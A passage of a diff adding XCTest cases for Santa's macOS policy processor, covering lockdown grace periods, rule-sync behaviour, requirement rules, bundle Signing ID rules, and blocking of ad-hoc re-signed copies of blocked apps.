@@ -22,7 +22,9 @@
 #import <XCTest/XCTest.h>
 
 #include <atomic>
+#include <map>
 #include <thread>
+#include <utility>
 #include <vector>
 
 #import "Source/common/SNTCELFallbackRule.h"
@@ -37,18 +39,28 @@
 #import "Source/common/cel/Activation.h"
 #import "Source/santad/DataLayer/SNTRuleTable.h"
 #include "Source/santad/EntitlementsFilter.h"
+#include "Source/santad/InterpreterScript.h"
+#import "Source/santad/SNTAllowOnceStore.h"
+#import "Source/santad/SNTLockdownGracePeriod.h"
+#import "Source/santad/SNTPathChurnTracker.h"
+#import "Source/santad/SNTRuleSyncWindow.h"
 
 #include "cel/v1.pb.h"
 
 extern struct RuleIdentifiers CreateRuleIDs(SNTCachedDecision* cd);
+extern NSArray<NSString*>* BundleSigningIDCandidates(NSString* signingID,
+                                                     NSString* bundleSigningID);
 
 @interface SNTPolicyProcessor (Testing)
 @property SNTConfigurator* configurator;
+@property SNTAllowOnceStore* allowOnceStore;
 - (BOOL)evaluateCELFallbackExpressions:(SNTCachedDecision*)cd
                     activationCallback:(ActivationCallbackBlock)activationCallback;
 - (void)compileFallbackRules:(NSArray<SNTCELFallbackRule*>*)rules;
-- (NSString*)fileIsScopeAllowed:(SNTFileInfo*)fi;
-- (NSString*)fileIsScopeBlocked:(SNTFileInfo*)fi;
+- (NSString*)fileIsScopeAllowed:(SNTFileInfo*)fi resolvedPath:(NSString*)resolvedPath;
+- (NSString*)fileIsScopeBlocked:(SNTFileInfo*)fi resolvedPath:(NSString*)resolvedPath;
+- (BOOL)applyDeveloperToolsPolicy:(SNTCachedDecision*)cd;
+- (NSString*)bundleSigningIDForFileInfo:(SNTFileInfo*)fileInfo;
 @end
 
 BOOL CompareMaybeNilStrings(NSString* s1, NSString* s2) {
@@ -1658,6 +1670,23 @@ BOOL RuleIdentifiersAreEqual(struct RuleIdentifiers r1, struct RuleIdentifiers r
   XCTAssertEqual(cd.ruleId, 0LL);
 }
 
+- (void)testSeverityPropagation {
+  SNTRule* rule = [[SNTRule alloc] initWithDictionary:@{
+    @"rule_type" : @"BINARY",
+    @"identifier" : @"1234567890abcdef1234567890abcdef1234567890abcdef1234567890abcdef",
+    @"policy" : @"BLOCKLIST",
+    @"severity" : @"critical",
+  }
+                                                error:nil];
+  XCTAssertNotNil(rule);
+
+  SNTCachedDecision* cd = [[SNTCachedDecision alloc] init];
+  cd.sha256 = rule.identifier;
+  [self.processor decision:cd forRule:rule withTransitiveRules:YES andCELActivationCallback:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockBinary);
+  XCTAssertEqual(cd.severity, SNTRuleSeverityCritical);
+}
+
 - (SNTCachedDecision*)decisionForPlatformBinary:(BOOL)isPlatformBinary {
   // Class-mock the rule table so it returns nil for every lookup, leaving
   // the platform-binary case as the only decision path that can fire.
@@ -1666,13 +1695,1279 @@ BOOL RuleIdentifiersAreEqual(struct RuleIdentifiers r1, struct RuleIdentifiers r
       [[SNTPolicyProcessor alloc] initWithRuleTable:mockRuleTable
                                  entitlementsFilter:santa::EntitlementsFilter::Create(@[], @[])];
 
-  // /bin/ls is an Apple-signed platform binary present on every macOS host.
+  // /bin/ls is an Apple-signed platform binary present on every macOS host.
+  SNTFileInfo* fi = [[SNTFileInfo alloc] initWithPath:@"/bin/ls"];
+  XCTAssertNotNil(fi);
+
+  es_file_t file = MakeESFile("/bin/ls");
+  es_process_t proc = MakeESProcess(&file);
+  proc.is_platform_binary = isPlatformBinary;
+  proc.codesigning_flags = CS_SIGNED | CS_VALID;
+
+  SNTConfigState* configState =
+      [[SNTConfigState alloc] initWithConfig:[SNTConfigurator configurator]];
+
+  return [processor decisionForFileInfo:fi
+                          targetProcess:&proc
+                            configState:configState
+                     activationCallback:nil
+                         cachedDecision:nil];
+}
+
+- (void)testDecisionAllowsPlatformBinary {
+  SNTCachedDecision* cd = [self decisionForPlatformBinary:YES];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowPlatform);
+  XCTAssertEqualObjects(cd.decisionExtra, @"Platform Binary");
+}
+
+- (void)testDecisionDoesNotApplyPlatformBinaryToNonPlatformBinaries {
+  SNTCachedDecision* cd = [self decisionForPlatformBinary:NO];
+  XCTAssertNotEqual(cd.decision, SNTEventStateAllowPlatform);
+  XCTAssertNotEqualObjects(cd.decisionExtra, @"Platform Binary");
+}
+
+- (SNTCachedDecision*)decisionInClientMode:(SNTClientMode)clientMode forRule:(SNTRule*)rule {
+  id mockRuleTable = OCMClassMock([SNTRuleTable class]);
+  struct RuleIdentifiers identifiers = {};
+  OCMStub([mockRuleTable executionRuleForIdentifiers:identifiers])
+      .ignoringNonObjectArgs()
+      .andReturn(rule);
+  SNTPolicyProcessor* processor =
+      [[SNTPolicyProcessor alloc] initWithRuleTable:mockRuleTable
+                                 entitlementsFilter:santa::EntitlementsFilter::Create(@[], @[])];
+
+  SNTFileInfo* fi = [[SNTFileInfo alloc] initWithPath:@"/bin/ls"];
+  XCTAssertNotNil(fi);
+
+  es_file_t file = MakeESFile("/bin/ls");
+  es_process_t proc = MakeESProcess(&file);
+  proc.codesigning_flags = CS_SIGNED | CS_VALID;
+
+  id mockConfigurator = OCMClassMock([SNTConfigurator class]);
+  OCMStub([mockConfigurator clientMode]).andReturn(clientMode);
+  SNTConfigState* configState = [[SNTConfigState alloc] initWithConfig:mockConfigurator];
+
+  return [processor decisionForFileInfo:fi
+                          targetProcess:&proc
+                            configState:configState
+                     activationCallback:nil
+                         cachedDecision:nil];
+}
+
+- (void)testBlockRuleBlocksInMonitorMode {
+  // Rules are evaluated before the client mode is consulted, so a block rule
+  // is enforced in every mode. Monitor mode only changes the outcome for
+  // binaries that no rule matched.
+  SNTRule* rule = [[SNTRule alloc] initWithDictionary:@{
+    @"rule_type" : @"SIGNINGID",
+    @"identifier" : @"platform:com.apple.ls",
+    @"policy" : @"BLOCKLIST"
+  }
+                                                error:nil];
+  XCTAssertNotNil(rule);
+
+  SNTCachedDecision* cd = [self decisionInClientMode:SNTClientModeMonitor forRule:rule];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockSigningID);
+  XCTAssertEqual(cd.decisionClientMode, SNTClientModeMonitor);
+
+  cd = [self decisionInClientMode:SNTClientModeLockdown forRule:rule];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockSigningID);
+}
+
+- (void)testUnmatchedBinaryOnlyMonitoredInMonitorMode {
+  SNTCachedDecision* cd = [self decisionInClientMode:SNTClientModeMonitor forRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowUnknown);
+
+  cd = [self decisionInClientMode:SNTClientModeLockdown forRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockUnknown);
+}
+
+- (void)testLockdownGracePeriodOnlyLogsUnmatchedBinaries {
+  id mockGracePeriod = OCMClassMock([SNTLockdownGracePeriod class]);
+  OCMStub([mockGracePeriod sharedGracePeriod]).andReturn(mockGracePeriod);
+  OCMStub([mockGracePeriod isActive]).andReturn(YES);
+
+  SNTCachedDecision* cd = [self decisionInClientMode:SNTClientModeLockdown forRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowUnknown);
+  XCTAssertEqualObjects(cd.decisionExtra, @"Allowed during Lockdown grace period");
+  XCTAssertTrue(cd.auditReturn);
+  XCTAssertFalse(cd.cacheable);
+
+  // Block rules are enforced during the grace period.
+  SNTRule* rule = [[SNTRule alloc] initWithDictionary:@{
+    @"rule_type" : @"SIGNINGID",
+    @"identifier" : @"platform:com.apple.ls",
+    @"policy" : @"BLOCKLIST"
+  }
+                                                error:nil];
+  cd = [self decisionInClientMode:SNTClientModeLockdown forRule:rule];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockSigningID);
+
+  // Standalone mode is unaffected.
+  cd = [self decisionInClientMode:SNTClientModeStandalone forRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockUnknown);
+  XCTAssertTrue(cd.holdAndAsk);
+
+  [mockGracePeriod stopMocking];
+}
+
+- (void)testLockdownEnforcedAfterGracePeriod {
+  id mockGracePeriod = OCMClassMock([SNTLockdownGracePeriod class]);
+  OCMStub([mockGracePeriod sharedGracePeriod]).andReturn(mockGracePeriod);
+  OCMStub([mockGracePeriod isActive]).andReturn(NO);
+
+  SNTCachedDecision* cd = [self decisionInClientMode:SNTClientModeLockdown forRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockUnknown);
+  XCTAssertFalse(cd.auditReturn);
+
+  [mockGracePeriod stopMocking];
+}
+
+#pragma mark Sync In Flight
+
+// Evaluates /bin/ls while window tracks a simulated rule sync. Until the sync has been applied the
+// rule table returns existingRule, afterwards it returns the allow rule the sync added.
+- (SNTCachedDecision*)decisionDuringRuleSync:(SNTRuleSyncWindow*)window
+                                      policy:(SNTSyncInFlightExecutionPolicy)policy
+                                  clientMode:(SNTClientMode)clientMode
+                                existingRule:(SNTRule*)existingRule {
+  SNTRule* updatedRule = [self allowRuleForLs];
+  id mockRuleTable = OCMClassMock([SNTRuleTable class]);
+  struct RuleIdentifiers identifiers = {};
+  OCMStub([mockRuleTable executionRuleForIdentifiers:identifiers])
+      .ignoringNonObjectArgs()
+      .andDo(^(NSInvocation* inv) {
+        __unsafe_unretained SNTRule* rule = [window isInFlight] ? existingRule : updatedRule;
+        [inv setReturnValue:&rule];
+      });
+  SNTPolicyProcessor* processor =
+      [[SNTPolicyProcessor alloc] initWithRuleTable:mockRuleTable
+                                 entitlementsFilter:santa::EntitlementsFilter::Create(@[], @[])];
+
+  id mockConfigurator = OCMClassMock([SNTConfigurator class]);
+  OCMStub([mockConfigurator clientMode]).andReturn(clientMode);
+  OCMStub([mockConfigurator syncInFlightExecutionPolicy]).andReturn(policy);
+  OCMStub([mockConfigurator syncInFlightMaxDeferralMilliseconds]).andReturn(100);
+  processor.configurator = mockConfigurator;
+  SNTConfigState* configState = [[SNTConfigState alloc] initWithConfig:mockConfigurator];
+
+  id mockWindow = OCMClassMock([SNTRuleSyncWindow class]);
+  OCMStub([mockWindow sharedWindow]).andReturn(window);
+
+  SNTFileInfo* fi = [[SNTFileInfo alloc] initWithPath:@"/bin/ls"];
+  XCTAssertNotNil(fi);
+
+  es_file_t file = MakeESFile("/bin/ls");
+  es_process_t proc = MakeESProcess(&file);
+  proc.codesigning_flags = CS_SIGNED | CS_VALID;
+
+  SNTCachedDecision* cd = [processor decisionForFileInfo:fi
+                                           targetProcess:&proc
+                                             configState:configState
+                                      activationCallback:nil
+                                          cachedDecision:nil];
+  [mockWindow stopMocking];
+  return cd;
+}
+
+- (void)testSyncInFlightUseExistingDecidesWithExistingRules {
+  SNTRuleSyncWindow* window = [[SNTRuleSyncWindow alloc] init];
+  [window begin];
+
+  SNTCachedDecision* cd = [self decisionDuringRuleSync:window
+                                                policy:SNTSyncInFlightExecutionPolicyUseExisting
+                                            clientMode:SNTClientModeLockdown
+                                          existingRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockUnknown);
+  XCTAssertTrue(cd.cacheable);
+
+  cd = [self decisionDuringRuleSync:window
+                             policy:SNTSyncInFlightExecutionPolicyUseExisting
+                         clientMode:SNTClientModeMonitor
+                       existingRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowUnknown);
+  XCTAssertTrue(cd.cacheable);
+}
+
+- (void)testSyncInFlightDeferWaitsForSyncToBeApplied {
+  SNTRuleSyncWindow* window = [[SNTRuleSyncWindow alloc] init];
+  [window begin];
+  dispatch_after(dispatch_time(DISPATCH_TIME_NOW, 20 * NSEC_PER_MSEC),
+                 dispatch_get_global_queue(QOS_CLASS_DEFAULT, 0), ^{
+                   [window end];
+                 });
+
+  SNTCachedDecision* cd = [self decisionDuringRuleSync:window
+                                                policy:SNTSyncInFlightExecutionPolicyDefer
+                                            clientMode:SNTClientModeLockdown
+                                          existingRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowSigningID);
+  XCTAssertTrue(cd.cacheable);
+}
+
+- (void)testSyncInFlightDeferFallsBackToExistingRules {
+  SNTRuleSyncWindow* window = [[SNTRuleSyncWindow alloc] init];
+  [window begin];
+
+  NSDate* start = [NSDate date];
+  SNTCachedDecision* cd = [self decisionDuringRuleSync:window
+                                                policy:SNTSyncInFlightExecutionPolicyDefer
+                                            clientMode:SNTClientModeLockdown
+                                          existingRule:nil];
+  XCTAssertGreaterThanOrEqual(-[start timeIntervalSinceNow], 0.1);
+  XCTAssertEqual(cd.decision, SNTEventStateBlockUnknown);
+  XCTAssertFalse(cd.cacheable);
+}
+
+- (void)testSyncInFlightFailSafeBlocksUnknownBinaries {
+  SNTRuleSyncWindow* window = [[SNTRuleSyncWindow alloc] init];
+  [window begin];
+
+  // Blocked even in Monitor mode.
+  SNTCachedDecision* cd = [self decisionDuringRuleSync:window
+                                                policy:SNTSyncInFlightExecutionPolicyFailSafe
+                                            clientMode:SNTClientModeMonitor
+                                          existingRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockUnknown);
+  XCTAssertEqualObjects(cd.decisionExtra, @"Blocked while a rule sync is applied");
+  XCTAssertFalse(cd.cacheable);
+
+  // Binaries allowed by an existing rule still run.
+  cd = [self decisionDuringRuleSync:window
+                             policy:SNTSyncInFlightExecutionPolicyFailSafe
+                         clientMode:SNTClientModeMonitor
+                       existingRule:[self allowRuleForLs]];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowSigningID);
+  XCTAssertFalse(cd.cacheable);
+
+  // Once the sync has been applied the new rules are used.
+  [window end];
+  cd = [self decisionDuringRuleSync:window
+                             policy:SNTSyncInFlightExecutionPolicyFailSafe
+                         clientMode:SNTClientModeMonitor
+                       existingRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowSigningID);
+  XCTAssertTrue(cd.cacheable);
+}
+
+#pragma mark Requirement Rules
+
+// Evaluates /bin/ls with the given requirement rules and an optional rule
+// returned from the identifier lookup.
+- (SNTCachedDecision*)decisionWithRequirementRules:(NSArray<SNTRule*>*)requirementRules
+                                    identifierRule:(SNTRule*)identifierRule {
+  id mockRuleTable = OCMClassMock([SNTRuleTable class]);
+  struct RuleIdentifiers identifiers = {};
+  OCMStub([mockRuleTable executionRuleForIdentifiers:identifiers])
+      .ignoringNonObjectArgs()
+      .andReturn(identifierRule);
+  OCMStub([mockRuleTable requirementRules]).andReturn(requirementRules);
+  SNTPolicyProcessor* processor =
+      [[SNTPolicyProcessor alloc] initWithRuleTable:mockRuleTable
+                                 entitlementsFilter:santa::EntitlementsFilter::Create(@[], @[])];
+
+  SNTFileInfo* fi = [[SNTFileInfo alloc] initWithPath:@"/bin/ls"];
+  XCTAssertNotNil(fi);
+
+  es_file_t file = MakeESFile("/bin/ls");
+  es_process_t proc = MakeESProcess(&file);
+  proc.codesigning_flags = CS_SIGNED | CS_VALID;
+
+  id mockConfigurator = OCMClassMock([SNTConfigurator class]);
+  OCMStub([mockConfigurator clientMode]).andReturn(SNTClientModeLockdown);
+  SNTConfigState* configState = [[SNTConfigState alloc] initWithConfig:mockConfigurator];
+
+  return [processor decisionForFileInfo:fi
+                          targetProcess:&proc
+                            configState:configState
+                     activationCallback:nil
+                         cachedDecision:nil];
+}
+
+- (SNTRule*)requirementRule:(NSString*)requirement policy:(NSString*)policy {
+  SNTRule* rule = [[SNTRule alloc] initWithDictionary:@{
+    @"rule_type" : @"REQUIREMENT",
+    @"identifier" : requirement,
+    @"policy" : policy,
+    @"custom_msg" : @"requirement rule",
+  }
+                                                error:nil];
+  XCTAssertNotNil(rule);
+  return rule;
+}
+
+- (void)testRequirementRuleMatches {
+  SNTRule* rule = [self requirementRule:@"anchor apple and identifier \"com.apple.ls\""
+                                 policy:@"BLOCKLIST"];
+
+  SNTCachedDecision* cd = [self decisionWithRequirementRules:@[ rule ] identifierRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockRequirement);
+  XCTAssertEqualObjects(cd.customMsg, @"requirement rule");
+}
+
+- (void)testRequirementRuleDoesNotMatch {
+  // Signed by Apple, but with a different identifier.
+  SNTRule* rule = [self requirementRule:@"anchor apple and identifier \"com.example.ls\""
+                                 policy:@"ALLOWLIST"];
+
+  SNTCachedDecision* cd = [self decisionWithRequirementRules:@[ rule ] identifierRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockUnknown);
+  XCTAssertNil(cd.customMsg);
+}
+
+- (void)testFirstSatisfiedRequirementRuleIsApplied {
+  SNTRule* other = [self requirementRule:@"anchor apple and identifier \"com.example.ls\""
+                                  policy:@"BLOCKLIST"];
+  SNTRule* designated = [self requirementRule:@"identifier \"com.apple.ls\" and anchor apple"
+                                       policy:@"ALLOWLIST"];
+
+  SNTCachedDecision* cd = [self decisionWithRequirementRules:@[ other, designated ]
+                                              identifierRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowRequirement);
+}
+
+- (void)testIdentifierRulesTakePrecedenceOverRequirementRules {
+  SNTRule* requirement = [self requirementRule:@"anchor apple and identifier \"com.apple.ls\""
+                                        policy:@"BLOCKLIST"];
+  SNTRule* signingID = [[SNTRule alloc] initWithDictionary:@{
+    @"rule_type" : @"SIGNINGID",
+    @"identifier" : @"platform:com.apple.ls",
+    @"policy" : @"ALLOWLIST"
+  }
+                                                     error:nil];
+
+  SNTCachedDecision* cd = [self decisionWithRequirementRules:@[ requirement ]
+                                              identifierRule:signingID];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowSigningID);
+}
+
+- (void)testRequirementRuleDecisions {
+  SNTRule* rule = [self requirementRule:@"anchor apple" policy:@"SILENT_BLOCKLIST"];
+  [self testRule:rule
+       transitiveRules:YES
+                 final:YES
+               matches:YES
+                silent:YES
+      expectedDecision:SNTEventStateBlockRequirement];
+
+  rule = [self requirementRule:@"anchor apple" policy:@"ALLOWLIST"];
+  [self testRule:rule
+       transitiveRules:YES
+                 final:YES
+               matches:YES
+                silent:NO
+      expectedDecision:SNTEventStateAllowRequirement];
+
+  // Requirement rules can't be compiler rules.
+  rule = [self requirementRule:@"anchor apple" policy:@"ALLOWLIST_COMPILER"];
+  [self testRule:rule
+       transitiveRules:YES
+                 final:NO
+               matches:YES
+                silent:NO
+      expectedDecision:SNTEventStateUnknown];
+}
+
+#pragma mark ResignProtectedBlocklist
+
+// Builds <tmp>/<name>.app around a copy of /bin/ls with the given bundle
+// identifier and signs it ad-hoc, as an attacker re-signing a blocked app would.
+- (NSString*)adhocSignedAppNamed:(NSString*)name bundleID:(NSString*)bundleID {
+  return [self adhocSignedAppNamed:name bundleID:bundleID executable:@"/bin/ls"];
+}
+
+- (NSString*)adhocSignedAppNamed:(NSString*)name
+                        bundleID:(NSString*)bundleID
+                      executable:(NSString*)executable {
+  NSFileManager* fm = [NSFileManager defaultManager];
+  NSString* app = [NSTemporaryDirectory()
+      stringByAppendingPathComponent:[NSString stringWithFormat:@"%@-%@.app", name,
+                                                                [NSUUID UUID].UUIDString]];
+  NSString* macOS = [app stringByAppendingPathComponent:@"Contents/MacOS"];
+  XCTAssertTrue([fm createDirectoryAtPath:macOS
+              withIntermediateDirectories:YES
+                               attributes:nil
+                                    error:nil]);
+  NSDictionary* infoPlist = @{
+    @"CFBundleIdentifier" : bundleID,
+    @"CFBundleExecutable" : name,
+    @"CFBundlePackageType" : @"APPL",
+  };
+  XCTAssertTrue([infoPlist writeToURL:[NSURL fileURLWithPath:[app stringByAppendingPathComponent:
+                                                                       @"Contents/Info.plist"]]
+                                error:nil]);
+  NSString* binary = [macOS stringByAppendingPathComponent:name];
+  XCTAssertTrue([fm copyItemAtPath:executable toPath:binary error:nil]);
+
+  NSTask* codesign = [NSTask launchedTaskWithLaunchPath:@"/usr/bin/codesign"
+                                              arguments:@[ @"--force", @"-s", @"-", app ]];
+  [codesign waitUntilExit];
+  XCTAssertEqual(codesign.terminationStatus, 0);
+
+  [self addTeardownBlock:^{
+    [[NSFileManager defaultManager] removeItemAtPath:app error:nil];
+  }];
+  return binary;
+}
+
+- (SNTCachedDecision*)decisionForPath:(NSString*)path
+                            processor:(SNTPolicyProcessor*)processor
+                               teamID:(const char*)teamID
+                            signingID:(const char*)signingID {
+  SNTFileInfo* fi = [[SNTFileInfo alloc] initWithPath:path];
+  XCTAssertNotNil(fi);
+
+  es_file_t file = MakeESFile(path.UTF8String);
+  es_process_t proc = MakeESProcess(&file);
+  proc.codesigning_flags = CS_SIGNED | CS_VALID;
+  if (teamID) proc.team_id = MakeESStringToken(teamID);
+  if (signingID) proc.signing_id = MakeESStringToken(signingID);
+
+  SNTConfigState* configState =
+      [[SNTConfigState alloc] initWithConfig:[SNTConfigurator configurator]];
+
+  return [processor decisionForFileInfo:fi
+                          targetProcess:&proc
+                            configState:configState
+                     activationCallback:nil
+                         cachedDecision:nil];
+}
+
+- (SNTPolicyProcessor*)processorWithResignProtectedBlocklist:(NSArray<NSString*>*)blocklist {
+  id mockRuleTable = OCMClassMock([SNTRuleTable class]);
+  SNTPolicyProcessor* processor =
+      [[SNTPolicyProcessor alloc] initWithRuleTable:mockRuleTable
+                                 entitlementsFilter:santa::EntitlementsFilter::Create(@[], @[])];
+  id mockConfigurator = OCMClassMock([SNTConfigurator class]);
+  OCMStub([mockConfigurator resignProtectedBlocklist]).andReturn(blocklist);
+  processor.configurator = mockConfigurator;
+  return processor;
+}
+
+- (void)testResignProtectedSigningIDBlocksAdhocResignedAppByBundleID {
+  SNTPolicyProcessor* processor =
+      [self processorWithResignProtectedBlocklist:@[ @"ABCDE12345:com.example.blocked" ]];
+
+  // The re-signed copy carries no Team ID or Signing ID, so only its bundle
+  // identifier ties it back to the listed Signing ID.
+  NSString* path = [self adhocSignedAppNamed:@"Blocked" bundleID:@"com.example.blocked"];
+  SNTCachedDecision* cd = [self decisionForPath:path
+                                      processor:processor
+                                         teamID:NULL
+                                      signingID:NULL];
+  XCTAssertNil(cd.teamID);
+  XCTAssertNil(cd.signingID);
+  XCTAssertEqualObjects(cd.bundleIdentifier, @"com.example.blocked");
+  XCTAssertEqual(cd.decision, SNTEventStateBlockSigningID);
+  XCTAssertEqualObjects(cd.decisionExtra, @"Resign protected blocklist (bundle ID)");
+
+  // An unrelated ad-hoc signed app is not affected.
+  path = [self adhocSignedAppNamed:@"Other" bundleID:@"com.example.other"];
+  cd = [self decisionForPath:path processor:processor teamID:NULL signingID:NULL];
+  XCTAssertEqualObjects(cd.bundleIdentifier, @"com.example.other");
+  XCTAssertNotEqualObjects(cd.decisionExtra, @"Resign protected blocklist (bundle ID)");
+}
+
+- (void)testResignProtectedTeamIDRecordsBundleIDOfBlockedApp {
+  SNTPolicyProcessor* processor = [self processorWithResignProtectedBlocklist:@[ @"ABCDE12345" ]];
+
+  // Until a binary from the listed team has been seen there is nothing to tie
+  // an ad-hoc signed app with this bundle identifier to the team.
+  NSString* resigned = [self adhocSignedAppNamed:@"Resigned" bundleID:@"com.example.teamapp"];
+  SNTCachedDecision* cd = [self decisionForPath:resigned
+                                      processor:processor
+                                         teamID:NULL
+                                      signingID:NULL];
+  XCTAssertNotEqual(cd.decision, SNTEventStateBlockSigningID);
+
+  NSString* original = [self adhocSignedAppNamed:@"Original" bundleID:@"com.example.teamapp"];
+  cd = [self decisionForPath:original
+                   processor:processor
+                      teamID:"ABCDE12345"
+                   signingID:"com.example.teamapp"];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockTeamID);
+  XCTAssertEqualObjects(cd.decisionExtra, @"Resign protected blocklist");
+
+  cd = [self decisionForPath:resigned processor:processor teamID:NULL signingID:NULL];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockSigningID);
+  XCTAssertEqualObjects(cd.decisionExtra, @"Resign protected blocklist (bundle ID)");
+}
+
+#pragma mark Bundle Signing ID Rules
+
+- (void)testBundleSigningIDCandidates {
+  XCTAssertEqualObjects(BundleSigningIDCandidates(@"ABCDE12345:com.example.app.helper", nil), (@[
+                          @"ABCDE12345:com.example.app.helper", @"ABCDE12345:com.example.app",
+                          @"ABCDE12345:com.example", @"ABCDE12345:com"
+                        ]));
+
+  // The bundle's Signing ID follows the binary's own.
+  XCTAssertEqualObjects(
+      BundleSigningIDCandidates(@"ABCDE12345:crashpad_handler", @"ABCDE12345:com.example.app"), (@[
+        @"ABCDE12345:crashpad_handler", @"ABCDE12345:com.example.app", @"ABCDE12345:com.example",
+        @"ABCDE12345:com"
+      ]));
+
+  // But only if it is signed by the same team.
+  XCTAssertEqualObjects(
+      BundleSigningIDCandidates(@"ZYXWV98765:crashpad_handler", @"ABCDE12345:com.example.app"),
+      (@[ @"ZYXWV98765:crashpad_handler" ]));
+
+  XCTAssertEqualObjects(BundleSigningIDCandidates(nil, @"ABCDE12345:com.example.app"), (@[
+                          @"ABCDE12345:com.example.app", @"ABCDE12345:com.example",
+                          @"ABCDE12345:com"
+                        ]));
+}
+
+// A processor whose rule table only has the given bundle Signing ID rule.
+- (SNTPolicyProcessor*)processorWithBundleSigningIDRule:(SNTRule*)rule {
+  id mockRuleTable = OCMClassMock([SNTRuleTable class]);
+  OCMStub([mockRuleTable hasBundleSigningIDRules]).andReturn(YES);
+  OCMStub([mockRuleTable bundleSigningIDRuleForSigningIDs:[OCMArg checkWithBlock:^BOOL(id ids) {
+                           return [ids containsObject:rule.identifier];
+                         }]])
+      .andReturn(rule);
+  return [[SNTPolicyProcessor alloc]
+      initWithRuleTable:mockRuleTable
+      entitlementsFilter:santa::EntitlementsFilter::Create(@[], @[])];
+}
+
+- (SNTRule*)bundleSigningIDRule:(NSString*)identifier policy:(NSString*)policy {
+  SNTRule* rule = [[SNTRule alloc] initWithDictionary:@{
+    @"rule_type" : @"BUNDLESIGNINGID",
+    @"identifier" : identifier,
+    @"policy" : policy,
+    @"custom_msg" : @"bundle rule",
+  }
+                                                error:nil];
+  XCTAssertNotNil(rule);
+  return rule;
+}
+
+- (void)testBundleSigningIDRuleMatchesEachVersionOfBundle {
+  SNTPolicyProcessor* processor = [self
+      processorWithBundleSigningIDRule:[self bundleSigningIDRule:@"ABCDE12345:com.example.app"
+                                                          policy:@"ALLOWLIST"]];
+
+  // Two versions of the same app: the update changed the binary, and so its
+  // hashes, but not its Signing ID.
+  NSString* v1 = [self adhocSignedAppNamed:@"Example"
+                                  bundleID:@"com.example.app"
+                                executable:@"/bin/ls"];
+  NSString* v2 = [self adhocSignedAppNamed:@"Example"
+                                  bundleID:@"com.example.app"
+                                executable:@"/bin/cat"];
+
+  SNTCachedDecision* cd1 = [self decisionForPath:v1
+                                       processor:processor
+                                          teamID:"ABCDE12345"
+                                       signingID:"com.example.app"];
+  SNTCachedDecision* cd2 = [self decisionForPath:v2
+                                       processor:processor
+                                          teamID:"ABCDE12345"
+                                       signingID:"com.example.app"];
+  XCTAssertNotEqualObjects(cd1.sha256, cd2.sha256);
+  XCTAssertEqual(cd1.decision, SNTEventStateAllowSigningID);
+  XCTAssertEqual(cd2.decision, SNTEventStateAllowSigningID);
+  XCTAssertEqualObjects(cd2.customMsg, @"bundle rule");
+
+  // Helpers whose Signing ID extends the bundle's are covered too.
+  SNTCachedDecision* cd = [self decisionForPath:v2
+                                      processor:processor
+                                         teamID:"ABCDE12345"
+                                      signingID:"com.example.app.helper"];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowSigningID);
+
+  // But not a Signing ID that only shares a prefix of characters, or one
+  // from another team.
+  cd = [self decisionForPath:v2
+                   processor:processor
+                      teamID:"ABCDE12345"
+                   signingID:"com.example.application"];
+  XCTAssertNotEqual(cd.decision, SNTEventStateAllowSigningID);
+  cd = [self decisionForPath:v2
+                   processor:processor
+                      teamID:"ZYXWV98765"
+                   signingID:"com.example.app"];
+  XCTAssertNotEqual(cd.decision, SNTEventStateAllowSigningID);
+}
+
+- (void)testBundleSigningIDRuleMatchesBinariesInBundleByMainExecutable {
+  SNTPolicyProcessor* processor = [self
+      processorWithBundleSigningIDRule:[self bundleSigningIDRule:@"ABCDE12345:com.example.app"
+                                                          policy:@"BLOCKLIST"]];
+  id mockProcessor = OCMPartialMock(processor);
+  OCMStub([mockProcessor bundleSigningIDForFileInfo:OCMOCK_ANY])
+      .andReturn(@"ABCDE12345:com.example.app");
+
+  NSString* path = [self adhocSignedAppNamed:@"Example" bundleID:@"com.example.app"];
+
+  // A binary in the bundle with an unrelated Signing ID is mapped to the
+  // bundle's Signing ID.
+  SNTCachedDecision* cd = [self decisionForPath:path
+                                      processor:mockProcessor
+                                         teamID:"ABCDE12345"
+                                      signingID:"crashpad_handler"];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockSigningID);
+  XCTAssertEqualObjects(cd.customMsg, @"bundle rule");
+
+  // Unless it is signed by another team.
+  cd = [self decisionForPath:path
+                   processor:mockProcessor
+                      teamID:"ZYXWV98765"
+                   signingID:"crashpad_handler"];
+  XCTAssertNotEqual(cd.decision, SNTEventStateBlockSigningID);
+}
+
+- (void)testBundleSigningIDRuleDecisions {
+  SNTRule* rule = [self bundleSigningIDRule:@"ABCDE12345:com.example.app"
+                                     policy:@"SILENT_BLOCKLIST"];
+  [self testRule:rule
+       transitiveRules:YES
+                 final:YES
+               matches:YES
+                silent:YES
+      expectedDecision:SNTEventStateBlockSigningID];
+
+  // Bundle Signing ID rules can't be compiler rules.
+  rule = [self bundleSigningIDRule:@"ABCDE12345:com.example.app" policy:@"ALLOWLIST_COMPILER"];
+  [self testRule:rule
+       transitiveRules:YES
+                 final:NO
+               matches:YES
+                silent:NO
+      expectedDecision:SNTEventStateUnknown];
+}
+
+#pragma mark Network Volumes
+
+// Evaluates /bin/ls as though it resided on a network (or local) volume with
+// the given NetworkVolumeExecutionAction and an optional identifier rule.
+- (SNTCachedDecision*)decisionOnNetworkVolume:(BOOL)onNetworkVolume
+                                       action:(SNTNetworkVolumeExecutionAction)action
